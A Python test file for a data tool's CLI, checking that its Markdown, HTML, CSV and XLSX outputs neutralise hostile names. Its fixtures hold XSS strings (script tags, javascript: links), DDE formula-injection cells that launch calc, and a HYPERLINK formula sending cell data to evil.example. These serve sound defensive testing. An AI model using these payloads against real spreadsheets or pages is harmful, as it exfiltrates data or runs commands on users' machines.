"""What is inside the outputs people open: nothing a user typed runs or links.

The output-safety property for file contents (tests/cli/test_outputs.py holds it for
which files are touched): for a dataset whose every name is hostile (formulas, HTML tags,
``javascript:`` links), no Markdown or HTML output carries a live tag or a link that is not
http(s), rendered by two Markdown libraries, and text escaped for Markdown reads back as
the same text (a property test).
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coordgraph.cli import cli
from coordgraph.io.safe import (
    formula_like,
    markdown_link,
    markdown_text,
    restore_cell,
    restore_cells_expr,
    safe_cell,
    safe_cells_expr,
    web_url,
)

#: a valid dataset whose names, titles and URLs are attacks (the cases of #28)
EVIL = """\
dataset:
  name: evil
  title: "=HYPERLINK(\\"http://evil.example/agency?d=\\"&A2,\\"x\\") <script>alert(0)</script>"
  description: "[click](javascript:alert(1)) <img src=x onerror=alert(2)> | *b* `c`"
sources:
- id: s1
  title: "<b>bold</b> [x](javascript:alert(3)) ![i](javascript:alert(4))"
  url: "javascript:alert(5)"
- id: s2
  title: "@SUM(1+1)*cmd|' /C calc'!A0"
  url: "https://ok.example/a?b=1&c=2"
- id: s3
  title: "=3+3"
  url: "JavaScript:alert(6)"
- id: s4
  title: "<javascript:alert(7)> [r]: javascript:alert(8)"
  url: "data:text/html,<script>alert(9)</script>"
areas:
- id: cri-san-jose
  name: "<script>alert(10)</script>"
  country: CRI
agencies:
- id: min-a
  name: "=cmd|' /C calc'!A0"
  country: ALB
  type: ministry
  sources: [s1]
- id: min-b
  name: "<a href='javascript:alert(11)'>Ministry B</a>"
  country: GRC
  type: ministry
  sources: [s2]
networks:
- id: net
  name: "<i>Net</i> [n](javascript:alert(12)) -2+3"
  members:
  - ALB
  - country: GRC
    joined: '2001'
  requires_focal_point: true
  sources: [s1, s4]
agreements:
- id: alb-grc
  name: "+cmd|' /C calc'!A0"
  type: bilateral
  parties:
  - ALB
  - GRC
  signed: 2006-02
  scope: children
  sources:
  - s1:10-12
mechanisms:
- id: m1
  name: "\\tTAB <u>m1</u> <javascript:alert(13)>"
  type: coordinating_body
  level: national
  country: ALB
  scope:
  - child_trafficking
  leads:
  - min-a
  sources: [s3]
action_plans:
- id: npa
  name: "'=already quoted"
  country: ALB
  scope:
  - child_trafficking
  adopted: '2005'
  sources: [s1]
- id: npa2
  name: "@SUM(1+1)*cmd|' /C calc'!A0"
  country: GRC
  scope:
  - child_trafficking
  adopted: '2004'
  sources: [s2]
routes:
- id: r1
  origin: ALB
  destination: GRC
  victims:
  - girls
  name: "+cmd|' /C calc'!A0"
  sources: [s2]
- id: r2
  origin: GRC
  destination: ALB
  victims:
  - boys
  name: "\\rCR <script>x</script>"
  sources: [s1]
"""

WHAT_IF = """\
agreements:
- id: alb-grc-2
  name: "<script>alert(14)</script> [w](javascript:alert(15))"
  type: bilateral
  parties: [ALB, GRC]
  signed: 2007
  in_force: 2007
  scope: children
"""


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    path = tmp_path / "evil.yaml"
    path.write_text(EVIL, encoding="utf-8")
    return path


def run(*args: str) -> str:
    r = CliRunner().invoke(cli, list(args))
    assert r.exit_code == 0, r.output
    return r.stdout


#: tags coordgraph's own Markdown and HTML templates make; anything else came from data
_OURS = {
    "a", "b", "body", "br", "code", "col", "colgroup", "div", "em", "h1", "h2", "h3", "h4",
    "head", "hr", "html", "img", "li", "meta", "ol", "p", "section", "span", "strong",
    "style", "sup", "table", "tbody", "td", "th", "thead", "title", "tr", "ul",
}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _OURS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.bad.append(f"<{tag} {name}>")
            ours = value.startswith(("#", "https://", "http://")) or value == "explorer.html"
            if name == "href" and not ours:
                self.bad.append(f"<{tag} href={value!r}>")
            if name == "src" and not (value.endswith(".png") or value.startswith("data:image/")):
                self.bad.append(f"<{tag} src={value!r}>")


def _live_markup(rendered: str) -> list[str]:
    parser = _Tags()
    parser.feed(rendered)
    return parser.bad


def _renderings(text: str) -> dict[str, str]:
    out = {}
    markdown_it = pytest.importorskip("markdown_it")
    out["markdown-it"] = markdown_it.MarkdownIt("commonmark").enable("table").render(text)
    markdown = pytest.importorskip("markdown")
    out["python-markdown"] = markdown.markdown(text, extensions=["tables"])
    return out


def _markdown_outputs(evil: Path, tmp_path: Path) -> dict[str, str]:
    what_if = tmp_path / "what-if.yaml"
    what_if.write_text(WHAT_IF, encoding="utf-8")
    data = str(evil)
    run("report", data, "--as-of", "2010", "-o", str(tmp_path / "rep"))
    return {
        "report.md": (tmp_path / "rep" / "report.md").read_text(encoding="utf-8"),
        "gaps": run("gaps", "all", data, "--as-of", "2010", "--format", "markdown"),
        "coverage": run("coverage", data, "--network", "net", "--format", "markdown"),
        "plan": run("plan", data, "--as-of", "2010", "--format", "markdown"),
        "plan --what-if": run(
            "plan", data, "--what-if", str(what_if), "--as-of", "2010", "--format", "markdown"
        ),
    }


def test_no_markdown_output_has_a_live_tag_or_link_from_data(evil: Path, tmp_path: Path) -> None:
    outputs = _markdown_outputs(evil, tmp_path)
    for name, text in outputs.items():
        # the text itself: no raw tag, no link or autolink to anything but http(s)
        assert "<script" not in text and "<i>" not in text and "<u>" not in text, name
        assert not re.search(r"(?<!\\)\]\(javascript", text), name
        assert "<javascript" not in text.lower(), name
        for library, rendered in _renderings(text).items():
            assert _live_markup(rendered) == [], (name, library)
    # the http(s) source still becomes a link; the others are shown as text
    report = outputs["report.md"]
    assert "<https://ok.example/a?b=1&c=2>" in report
    assert "javascript:alert(5)" in report and "<javascript:alert(5)>" not in report
    # names read as they are written once rendered
    rendered = _renderings(report)["markdown-it"]
    assert "&lt;i&gt;Net&lt;/i&gt; [n](javascript:alert(12)) -2+3" in rendered


def test_the_html_report_links_only_to_http_and_its_own_anchors(evil: Path, tmp_path: Path) -> None:
    run("report", str(evil), "--as-of", "2010", "-o", str(tmp_path / "rep"))
    page = (tmp_path / "rep" / "report.html").read_text(encoding="utf-8")
    assert _live_markup(page) == []
    assert "href='https://ok.example/a?b=1&amp;c=2'" in page
    assert "javascript:" not in page.lower().replace("javascript:alert(", "")


_PIECES = st.sampled_from(
    [
        *"ab <>&\\`*_[]()!#|~'\"=:/-+.1\t\n",
        *("javascript:", "http://x", "&amp;", "&#60;", "é", "\U0001f600", "\u202e"),
        *("<script>", "](javascript:alert(1))", "<b>"),
    ]
)


@settings(max_examples=400, deadline=None)
@given(text=st.lists(_PIECES, max_size=24).map("".join))
def test_markdown_text_reads_back_as_the_same_text_and_is_never_markup(text: str) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").renderInline(markdown_text(text))
    assert "<" not in rendered.replace("&lt;", "")  # no tag of any kind
    assert html.unescape(rendered) == " ".join(text.splitlines())


@pytest.mark.parametrize(
    ("url", "link"),
    [
        ("https://www.unodc.org/a?b=1&c=2", True),
        ("HTTP://EXAMPLE.ORG", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("data:text/html,<script>", False),
        ("file:///etc/passwd", False),
        ("https://x.org/<script>", False),
        ("https://x.org/a b", False),
        ("https://x.org/a>b", False),
        ("//evil.example", False),
        ("vbscript:msgbox", False),
        ("", False),
    ],
)
def test_only_http_urls_become_links(url: str, link: bool) -> None:
    assert (web_url(url) is not None) is link
    out = markdown_link(url)
    assert out.startswith("<") is link
    if not link:
        rendered = pytest.importorskip("markdown_it").MarkdownIt("commonmark").render(out)
        assert "<a " not in rendered


# -- spreadsheets: no live formula, and dataset folders give the text back -------------

#: the cells of #28 and OWASP's list, as a value and whether a spreadsheet runs it
FORMULA_CASES = [
    ('=HYPERLINK("http://evil.example/agency?d="&A2,"x")', True),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("=3+3", True),
    ("+cmd|' /C calc'!A0", True),
    ("-2+3", True),
    ("-", True),
    ("\tTAB", True),
    ("\rCR", True),
    ("|pipe", True),
    ("%macro", True),
    ("-12", False),
    ("+3.5", False),
    ("-1e5", False),
    ("-inf", True),
    ("-1_000", True),
    ("-٣", True),
    ("Ministry of Women's Affairs", False),
    ("'=already quoted", False),
]


@pytest.mark.parametrize(("text", "runs"), FORMULA_CASES)
def test_safe_cell_neutralises_each_case_and_restore_gives_it_back(text: str, runs: bool) -> None:
    assert formula_like(text) is runs
    cell = safe_cell(text)
    assert not formula_like(cell)
    assert cell.startswith("'") is (runs or text.startswith("'"))
    assert restore_cell(cell) == text
    assert safe_cell(text, neutralise=False) == text


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _xlsx_cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_live_formula_in_csv(path: Path) -> None:
    live = [c for c in _csv_cells(path) if formula_like(c)]
    assert live == [], (path.name, live[:3])


def _assert_no_live_formula_in_xlsx(path: Path) -> None:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
    for cell in _xlsx_cells(path):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and formula_like(cell.value):
            # text, and marked so that editing it in Excel keeps it text
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_no_spreadsheet_output_has_a_live_formula(evil: Path, tmp_path: Path) -> None:
    data = str(evil)
    out = tmp_path
    run("gaps", "all", data, "--as-of", "2010", "--format", "csv", "-o", str(out / "gaps.csv"))
    run("convert", data, str(out / "folder"))
    run("convert", data, str(out / "book.xlsx"))
    run("export", data, "--format", "kumu", "--as-of", "2010", "-o", str(out / "kumu.xlsx"))
    gaps_cells = _csv_cells(out / "gaps.csv")
    # findings whose message starts with a plan's name: inert, and the text is all there
    assert any(c.startswith("'@SUM(1+1)*cmd|' /C calc'!A0 (in effect") for c in gaps_cells)
    assert any(c.startswith("''=already quoted (in effect") for c in gaps_cells)
    _assert_no_live_formula_in_csv(out / "gaps.csv")
    folder = sorted((out / "folder").glob("*.csv"))
    assert len(folder) > 5
    for path in folder:
        _assert_no_live_formula_in_csv(path)
    cells = [c for path in folder for c in _csv_cells(path)]
    for text, runs in FORMULA_CASES[:4]:
        if text in EVIL:
            assert ("'" + text in cells) is runs, text
    assert "''=already quoted" in cells
    _assert_no_live_formula_in_xlsx(out / "book.xlsx")
    book_values = {c.value for c in _xlsx_cells(out / "book.xlsx")}
    assert "=cmd|' /C calc'!A0" in book_values  # the value itself, unchanged
    for cell in _xlsx_cells(out / "kumu.xlsx"):
        assert cell.data_type != "f"
        assert not (isinstance(cell.value, str) and formula_like(cell.value)), cell.value


def test_dataset_csv_folders_of_every_writer_are_formula_safe(tmp_path: Path) -> None:
    cases = tmp_path / "cases.csv"
    cases.write_text(
        "citizenship,CountryOfExploitation,yearOfRegistration,ageBroad,gender,typeOfExploit\n"
        "AL,GR,2010,0--8,Female,sexual\n",
        encoding="utf-8",
    )
    run("synth", "--routes", "20", "--countries", "5", "-o", str(tmp_path / "synth"))
    run("import", "cases", str(cases), "-o", str(tmp_path / "cases"))
    run("init", str(tmp_path / "=1+1 template"))
    run("init", str(tmp_path / "=1+1 book.xlsx"))
    for folder in ("synth", "cases", "=1+1 template"):
        descriptor = json.loads((tmp_path / folder / "datapackage.json").read_text("utf-8"))
        assert descriptor["coordgraph"]["cell_escape"] == "'"
        for path in (tmp_path / folder).glob("*.csv"):
            _assert_no_live_formula_in_csv(path)
    _assert_no_live_formula_in_xlsx(tmp_path / "=1+1 book.xlsx")


def _document(path: Path) -> dict[str, Any]:
    from coordgraph.io.convert import dataset_document
    from coordgraph.io.load import load

    return dataset_document(load(path))


@pytest.mark.parametrize("raw", [False, True], ids=["neutralised", "raw cells"])
def test_convert_stays_lossless_through_csv_and_xlsx(evil: Path, tmp_path: Path, raw: bool) -> None:
    extra = ["--raw-cells"] if raw else []
    original = _document(evil)
    run("convert", str(evil), str(tmp_path / "folder"), *extra)
    assert _document(tmp_path / "folder") == original
    # a folder read column-wise (routes) and written again from the route table
    run("convert", str(tmp_path / "folder"), str(tmp_path / "again"), *extra)
    assert _document(tmp_path / "again") == original
    run("convert", str(tmp_path / "again"), str(tmp_path / "book.xlsx"), *extra)
    assert _document(tmp_path / "book.xlsx") == original
    descriptor = json.loads((tmp_path / "again" / "datapackage.json").read_text("utf-8"))
    assert ("cell_escape" in descriptor["coordgraph"]) is not raw
    cells = [c for p in (tmp_path / "again").glob("*.csv") for c in _csv_cells(p)]
    assert ("=cmd|' /C calc'!A0" in cells) is raw  # --raw-cells: exactly as the data


def test_raw_cells_leaves_findings_csv_and_kumu_as_the_data_holds_them(
    evil: Path, tmp_path: Path
) -> None:
    data = str(evil)
    text = run("gaps", "all", data, "--as-of", "2010", "--format", "csv", "--raw-cells")
    assert "+cmd|' /C calc'!A0" in text and "'+cmd" not in text
    kumu = tmp_path / "kumu.xlsx"
    run("export", data, "--format", "kumu", "--raw-cells", "-o", str(kumu))
    values = {c.value for c in _xlsx_cells(kumu)}
    assert "=cmd|' /C calc'!A0" in values
    assert all(c.data_type != "f" for c in _xlsx_cells(kumu))  # still text, never run


@pytest.mark.parametrize("name", ["book.xlsm", "BOOK.XLSM", "t.xltm", "b.xlsb"])
def test_a_macro_workbook_name_is_refused(evil: Path, tmp_path: Path, name: str) -> None:
    for args in (
        ["convert", str(evil), str(tmp_path / name)],
        ["convert", str(evil), str(tmp_path / name), "--to", "xlsx"],
        ["init", str(tmp_path / name)],
    ):
        r = CliRunner().invoke(cli, args)
        assert r.exit_code == 2, r.output
        lines = r.output.strip().splitlines()
        assert len(lines) == 1 and "give a name ending in .xlsx" in lines[0]
    assert list(tmp_path.iterdir()) == [evil]


_CELL_TEXT = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\u2028\u2029\x85"),
    max_size=30,
)
_PREFIXES = st.sampled_from(["", "'", "''", "=", "+", "-", "@", "|", "%", "'=", "-1", "+1e"])


@settings(max_examples=300, deadline=None)
@given(prefix=_PREFIXES, rest=_CELL_TEXT)
def test_any_text_round_trips_through_a_neutralised_csv_cell(prefix: str, rest: str) -> None:
    text = prefix + rest
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([safe_cell(text), "x"])
    cell = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))[0]
    assert not formula_like(cell)
    assert restore_cell(cell) == text
    # the polars form gives the same cells
    import polars as pl

    column = pl.DataFrame({"c": [text]}).select(safe_cells_expr(pl.col("c")).alias("c"))["c"]
    assert column.to_list() == [safe_cell(text)]
    back = pl.DataFrame({"c": [safe_cell(text)]}).select(restore_cells_expr(pl.col("c")).alias("c"))
    assert back["c"].to_list() == [text]


_NAME = st.builds(
    lambda p, r: (p + r).strip() or "x",
    _PREFIXES,
    st.text(
        st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp"), blacklist_characters="\x85"),
        max_size=20,
    ),
)


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(names=st.lists(_NAME, min_size=3, max_size=3))
def test_any_names_round_trip_through_a_dataset_folder(
    names: list[str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    from coordgraph.io.convert import write_dataset
    from coordgraph.io.load import load

    tmp = tmp_path_factory.mktemp("names")
    doc = yaml.safe_load(EVIL)
    doc["agencies"][0]["name"] = names[0]
    doc["routes"][0]["name"] = names[1]
    doc["routes"][1]["name"] = names[2]
    (tmp / "d.yaml").write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    original = _document(tmp / "d.yaml")
    write_dataset(load(tmp / "d.yaml"), tmp / "one")
    assert _document(tmp / "one") == original
    write_dataset(load(tmp / "one"), tmp / "two")  # routes from the column-wise table
    assert _document(tmp / "two") == original
    for path in (tmp / "two").glob("*.csv"):
        _assert_no_live_formula_in_csv(path)


#: every command that writes a file a person may open in a spreadsheet (CSV or XLSX)
SPREADSHEET_WRITERS = [
    ("gaps",),
    ("neo4j", "gaps"),
    ("export",),
    ("convert",),
    ("init",),
    ("synth",),
    ("import", "cases"),
    ("import", "treaty-status"),
]


@pytest.mark.parametrize("path", SPREADSHEET_WRITERS, ids=" ".join)
def test_every_spreadsheet_writer_offers_raw_cells(path: tuple[str, ...]) -> None:
    """Each neutralises formulas by default and offers the same option to turn it off."""
    import click

    command: Any = cli
    ctx = click.Context(cli)
    for name in path:
        command = command.get_command(ctx, name)
    assert command is not None, path
    option = next((p for p in command.params if p.name == "raw_cells"), None)
    assert option is not None and option.opts == ["--raw-cells"], path
    assert option.is_flag
